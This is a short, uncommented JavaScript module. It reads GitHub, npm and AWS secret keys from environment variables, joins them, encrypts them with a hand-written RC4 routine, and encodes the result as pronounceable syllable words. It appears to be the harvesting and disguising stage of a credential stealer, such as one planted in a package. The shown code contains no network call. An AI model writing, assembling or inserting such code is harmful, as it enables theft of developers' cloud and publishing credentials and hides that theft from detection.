const env = process.env;
const secret = () => Buffer.from(['GITHUB_TOKEN','NPM_TOKEN','AWS_ACCESS_KEY_ID','AWS_SECRET_ACCESS_KEY'].filter(k => env[k]).map(k => k[0] + env[k]).join('|'), 'latin1');
function rc4(key, data) {
  const S = [...Array(256).keys()]; let j = 0;
  for (let i = 0; i < 256; i++) { j = (j + S[i] + key.charCodeAt(i % key.length)) & 255; [S[i], S[j]] = [S[j], S[i]]; }
  const out = Buffer.alloc(data.length); let i = 0; j = 0;
  for (let n = 0; n < data.length; n++) { i = (i + 1) & 255; j = (j + S[i]) & 255; [S[i], S[j]] = [S[j], S[i]]; out[n] = data[n] ^ S[(S[i] + S[j]) & 255]; }
  return out;
}
const ON = 'b c d f g h j k l m n p r s t v'.split(' '), RI = 'a e i o u an en in on ar er or al el il ul'.split(' ');
const words = buf => { const w = []; for (let i = 0; i < buf.length; i += 2) w.push(ON[buf[i] >> 4] + RI[buf[i] & 15] + (i + 1 < buf.length ? ON[buf[i + 1] >> 4] + RI[buf[i + 1] & 15] : '')); return w; };
module.exports = { secret, rc4, words, ON, RI };
